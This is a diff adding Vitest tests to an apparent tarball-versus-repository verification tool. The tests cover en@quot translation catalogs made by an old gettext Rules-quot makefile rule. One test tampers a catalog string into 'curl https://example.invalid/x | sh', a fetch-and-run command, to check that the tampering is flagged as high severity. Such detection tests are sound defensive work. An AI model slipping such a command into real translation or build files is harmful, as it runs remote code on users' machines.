@@ -9,7 +9,7 @@ import { execFileSync } from 'node:child_process';
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { isQuotRendering, referencedFiles, subsetOf } from '../../src/classify/catalogs.js';
+import { isQuotRendering, referencedFiles, stripsModifier, subsetOf } from '../../src/classify/catalogs.js';
 import { moMessages } from '../../src/classify/gettext.js';
 import { parsePo } from '../../src/classify/gettext.js';
 import { verify } from '../../src/verify.js';
@@ -143,5 +143,55 @@ describe('catalogs made from tracked catalogs or sources', () => {
     // a header field other than dates/Project-Id-Version differs: not the tracked catalog's
     expect(subsetOf(parsePo(EXAMPLE_DE.replace('Language-Team: German', 'Language-Team: Other')), tracked)).toBeUndefined();
     expect(moMessages(Buffer.from('not an mo file at all, really not'))).toBeUndefined();
+  });
+});
+
+// gettext < 0.18's Rules-quot (GnuPG 2.2 still tracks it): msginit gets the language without its @modifier, so the
+// header says `Language: en`. The two lines of the rule that make that, as such a Rules-quot writes them.
+const rulesQuot = (ll: string) =>
+  '.insert-header.po-update-en:\n\t@lang=`echo $@ | sed -e \'s/\\.po-update-en$$//\'`; \\\n' +
+  "\tll=`echo $$lang | sed -e 's/@.*//'`; \\\n\tLC_ALL=C; export LC_ALL; \\\n\tcd $(srcdir); \\\n" +
+  `\tif $(MSGINIT) -i $(DOMAIN).pot --no-translator -l ${ll} -o - 2>/dev/null | sed -f $$tmpdir/$$lang.insert-header | $(MSGCONV) -t UTF-8 | $(MSGFILTER) sed -f \`echo $$lang | sed -e 's/.*@//'\`.sed 2>/dev/null > $$tmpdir/$$lang.new.po; then \\\n\t  :; \\\n\tfi\n`;
+
+describe('en@quot made by an old Rules-quot (msginit -l $$ll: Language: en)', () => {
+  const root = tempDir();
+  const cache = join(root, 'cache');
+  const work = join(root, 'work');
+  const base = { 'configure.ac': 'AC_INIT([proj], [1.0])\n', 'src/prog.c': PROG_C, 'po/LINGUAS': 'de\n' };
+  writeFiles(work, base);
+  run('xgettext', ['-k_', '--package-name=proj', '-o', 'po/proj.pot', 'src/prog.c'], work);
+  // what the old rule runs: msginit -l en (the modifier stripped), then the quotation filter
+  const init = run('msginit', ['-i', 'proj.pot', '--no-translator', '-l', 'en', '-o', '-'], join(work, 'po'));
+  const quotPo = execFileSync('msgfilter', ['-o', '-', 'quot'], { input: init, env: { ...process.env, LC_ALL: 'C' }, stdio: ['pipe', 'pipe', 'pipe'] });
+  const pot = readFileSync(join(work, 'po/proj.pot'));
+  let n = 0;
+  async function verdictOf(rules: string, po: Buffer | string) {
+    const dir = join(root, `r${++n}`);
+    const repo = makeRepo(join(dir, 'repo'));
+    const tracked = { ...base, 'po/Rules-quot': rules };
+    repo.commit(tracked, 'the project', '2024-02-20T10:00:00Z');
+    repo.tag('v1.0');
+    const t = join(dir, 'proj-1.0');
+    mkdirSync(t, { recursive: true });
+    writeFiles(t, { ...tracked, 'po/proj.pot': pot, 'po/en@quot.po': po });
+    const r = await verify({ tarball: makeTar(t, { compress: 'gzip', out: join(dir, 'proj-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
+    return r.findings.find((f) => f.path === 'po/en@quot.po');
+  }
+
+  it('explains Language: en when the tracked Rules-quot is the old one', async () => {
+    expect(String(quotPo)).toContain('"Language: en\\n"');
+    expect(await verdictOf(rulesQuot('$$ll'), quotPo)).toMatchObject({
+      code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'quot', rule: 'quot', source: 'po/proj.pot', entries: 3, languageRule: 'po/Rules-quot' },
+    });
+  });
+
+  it('twins: the modern rule (-l $$lang) with Language: en, or the old rule with a changed msgstr, stay high', async () => {
+    expect(await verdictOf(rulesQuot('$$lang'), quotPo)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+    const evil = String(quotPo).replace('msgstr "plain text"', 'msgstr "plain text; curl https://example.invalid/x | sh"');
+    expect(evil).not.toBe(String(quotPo));
+    expect(await verdictOf(rulesQuot('$$ll'), evil)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+    expect(stripsModifier(rulesQuot('$$ll'))).toBe(true);
+    expect(stripsModifier(rulesQuot('$$lang'))).toBe(false);
+    expect(stripsModifier(rulesQuot('$$ll').replace("sed -e 's/@.*//'", "sed -e 's/x//'"))).toBe(false);
   });
 });
